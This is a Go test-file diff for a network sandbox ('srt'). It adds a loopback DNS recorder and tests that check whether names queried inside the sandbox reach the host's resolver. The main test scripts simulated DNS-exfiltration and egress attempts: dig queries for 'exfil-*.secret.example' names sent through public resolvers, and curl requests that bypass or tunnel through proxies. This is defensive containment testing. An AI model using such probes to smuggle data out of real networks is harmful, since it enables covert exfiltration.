@@ -3,6 +3,7 @@ package e2e
 import (
 	"crypto/tls"
 	"fmt"
+	"io"
 	"net"
 	"net/http"
 	"os"
@@ -650,5 +651,190 @@ func TestEscapeCaptureNamespace(t *testing.T) {
 		t.Logf("nested: %s", r)
 		expect(t, r, 0, "RTNETLINK answers: Operation not permitted", "nft=1", "iptables=4", "sysctl=2", "ip_unprivileged_port_start: Permission denied",
 			"own-netns-changed", "127.0.0.1 got HTTP/1.0 200 host-service", "198.18.0.9 errno 104")
+	})
+}
+
+// dnsRecorder is a name server on the host's loopback (the resolver srt
+// and srt-proxy use, through a private /etc/resolv.conf) that records
+// every name it is asked. It answers the names of answers with 127.0.0.1
+// (A) and no data (AAAA), and every other name NXDOMAIN.
+type dnsRecorder struct {
+	addr    string
+	answers map[string]bool
+	mu      sync.Mutex
+	names   []string
+}
+
+func startDNSRecorder(t *testing.T, addr string, answers ...string) *dnsRecorder {
+	t.Helper()
+	d := &dnsRecorder{addr: addr, answers: map[string]bool{}}
+	for _, a := range answers {
+		d.answers[a] = true
+	}
+	pc, err := net.ListenPacket("udp", addr+":53")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { pc.Close() })
+	ln, err := net.Listen("tcp", addr+":53")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { ln.Close() })
+	go func() {
+		buf := make([]byte, 4096)
+		for {
+			n, from, err := pc.ReadFrom(buf)
+			if err != nil {
+				return
+			}
+			if reply := d.answer(buf[:n]); reply != nil {
+				pc.WriteTo(reply, from)
+			}
+		}
+	}()
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			go func() {
+				defer c.Close()
+				c.SetDeadline(time.Now().Add(5 * time.Second))
+				var hdr [2]byte
+				for {
+					if _, err := io.ReadFull(c, hdr[:]); err != nil {
+						return
+					}
+					q := make([]byte, int(hdr[0])<<8|int(hdr[1]))
+					if _, err := io.ReadFull(c, q); err != nil {
+						return
+					}
+					reply := d.answer(q)
+					if reply == nil {
+						return
+					}
+					c.Write(append([]byte{byte(len(reply) >> 8), byte(len(reply))}, reply...))
+				}
+			}()
+		}
+	}()
+	return d
+}
+
+// answer records the question's name and answers it.
+func (d *dnsRecorder) answer(q []byte) []byte {
+	if len(q) < 12 {
+		return nil
+	}
+	var labels []string
+	i := 12
+	for i < len(q) && q[i] != 0 && int(q[i]) < 64 && i+1+int(q[i]) <= len(q) {
+		labels = append(labels, string(q[i+1:i+1+int(q[i])]))
+		i += 1 + int(q[i])
+	}
+	if i+5 > len(q) {
+		return nil
+	}
+	name := strings.ToLower(strings.Join(labels, "."))
+	qtype := int(q[i+1])<<8 | int(q[i+2])
+	d.mu.Lock()
+	d.names = append(d.names, name)
+	d.mu.Unlock()
+	question := q[12 : i+5]
+	r := append([]byte{q[0], q[1], 0x81, 0x80, 0, 1, 0, 0, 0, 0, 0, 0}, question...)
+	switch {
+	case !d.answers[name]:
+		r[3] |= 3 // NXDOMAIN
+	case qtype == 1:
+		r[7] = 1
+		r = append(r, 0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 1, 0, 4, 127, 0, 0, 1)
+	}
+	return r
+}
+
+func (d *dnsRecorder) asked() []string {
+	d.mu.Lock()
+	defer d.mu.Unlock()
+	return append([]string(nil), d.names...)
+}
+
+// TestEscapeCaptureDNSNeverLeaves: no name the sandbox asks about, or
+// tries to connect to, reaches the host's resolver unless the settings
+// allow connecting to it: every record type through the sandbox's name
+// server (UDP and TCP), queries sent to public resolvers (UDP, which the
+// rules lead to the sandbox's own server; TCP, which is captured and
+// decided; IPv6), to the recorder's own address, a connection to a name
+// not on the list (captured, through the HTTP proxy, through SOCKS with
+// remote names) and to a denied one. The host's resolver here is a
+// recorder on 127.0.0.77 (srt's /etc/resolv.conf, in a mount namespace).
+//
+// Control: a connection to an allowed name is looked up (the recorder
+// sees it, and answers 127.0.0.1: the service is reached), so the
+// recorder sees what srt-proxy asks.
+func TestEscapeCaptureDNSNeverLeaves(t *testing.T) {
+	up := startHitCounter(t, "allowed-service", "127.0.0.1")
+	rec := startDNSRecorder(t, "127.0.0.77", "leak-control.test")
+	p := itoa(up.port)
+	script := `for t in A AAAA TXT MX ANY; do dig +short +time=2 +tries=1 exfil-$t.secret.example $t; done; ` +
+		`dig +short +tcp +time=2 +tries=1 exfil-tcp.secret.example TXT; ` +
+		`dig +short +time=2 +tries=1 @8.8.8.8 exfil-udp-public.secret.example TXT; ` +
+		`dig +short +tcp +time=2 +tries=1 @8.8.8.8 exfil-tcp-public.secret.example TXT; ` +
+		`dig +short +time=2 +tries=1 @127.0.0.77 exfil-recorder.secret.example; ` +
+		`dig +short +time=2 +tries=1 -6 @2001:4860:4860::8888 exfil-v6.secret.example; ` +
+		`getent hosts exfil-getent.secret.example; ` +
+		`curl -sS -m 5 --noproxy '*' http://exfil-captured.secret.example:` + p + `/ ; ` +
+		`curl -sS -m 5 http://exfil-proxy.secret.example:` + p + `/ ; ` +
+		`curl -sS -m 5 -x socks5h://$(echo $ALL_PROXY | sed 's|^http://||; s|:3128$|:1080|') http://exfil-socks.secret.example:` + p + `/ ; ` +
+		`curl -sS -m 5 --noproxy '*' http://exfil.denied.test:` + p + `/ ; ` +
+		`python3 connect.py 'control=leak-control.test,` + p + `'`
+	forEach(t, func(t *testing.T, w *workspace) {
+		w.write("home/proj/connect.py", connectProbe)
+		files := map[string]string{"/etc/resolv.conf": "nameserver 127.0.0.77\noptions timeout:2 attempts:1\n"}
+		s := w.settings(`{"network":{"allowedDomains":["leak-control.test","127.0.0.1:` + p + `"],"deniedDomains":["denied.test"]},"filesystem":{"denyRead":[],"allowWrite":["."],"denyWrite":[]}}`)
+		before := len(rec.asked())
+		r := w.runEtc(files, filepath.Join(bin, "srt"), "-s", s, "--show-violations", "-c", script)
+		t.Logf("%s", r)
+		asked := rec.asked()[before:]
+		t.Logf("the host's resolver was asked: %q", asked)
+		for _, n := range asked {
+			if strings.Contains(n, "exfil") {
+				t.Errorf("a name the sandbox asked about left it: %q", n)
+			}
+		}
+		expect(t, r, 0, "control got HTTP/1.0 200 allowed-service",
+			"deny network-outbound exfil-captured.secret.example:"+p, "deny network-outbound 8.8.8.8:53")
+		if !strings.Contains(strings.Join(asked, " "), "leak-control.test") {
+			t.Fatalf("control: the recorder never saw the allowed name")
+		}
+	})
+}
+
+// TestCaptureFindingPublicResolverUDP: a program with a resolver of its
+// own (dig @8.8.8.8, a client with a hard-coded public server) should be
+// answered by the sandbox's name server: the rules DNAT every IPv4 UDP
+// datagram to port 53 to 127.0.0.53:53 (docs/architecture.md, "The network
+// namespace"). It is not: the query arrives, but the name server's reply
+// (from 127.0.0.53 to the namespace's 198.18.0.1, where the query came
+// from) is itself a UDP datagram to an address outside 127.0.0.0/8, which
+// the filter rule "OUTPUT -p udp ! -d 127.0.0.0/8 REJECT" rejects, so the
+// program waits out its timeout. (Tried in a namespace of its own: with
+// "-A OUTPUT -p udp -m conntrack --ctstate DNAT --ctdir REPLY -j ACCEPT"
+// before the REJECT the reply arrives, and other UDP is still refused.)
+// Not an escape (nothing leaves), a promise that does not hold.
+//
+// Control: the same query to 127.0.0.1:53 (DNATed from a loopback source)
+// and to 127.0.0.53 itself are answered.
+func TestCaptureFindingPublicResolverUDP(t *testing.T) {
+	forEach(t, func(t *testing.T, w *workspace) {
+		r := w.sh(netSettings(nil, nil, ""), `for s in 127.0.0.53 127.0.0.1 8.8.8.8 198.18.0.1; do echo "$s: $(dig +short +time=2 +tries=1 @$s app.test A 2>/dev/null | head -1)"; done`)
+		t.Logf("%s", r)
+		expect(t, r, 0, "127.0.0.53: 198.18.128.", "127.0.0.1: 198.18.128.")
+		for _, s := range []string{"8.8.8.8", "198.18.0.1"} {
+			if !strings.Contains(r.stdout, s+": 198.18.128.") {
+				t.Errorf("FINDING: a query to %s:53 (UDP) is not answered by the sandbox's name server", s)
+			}
+		}
 	})
 }
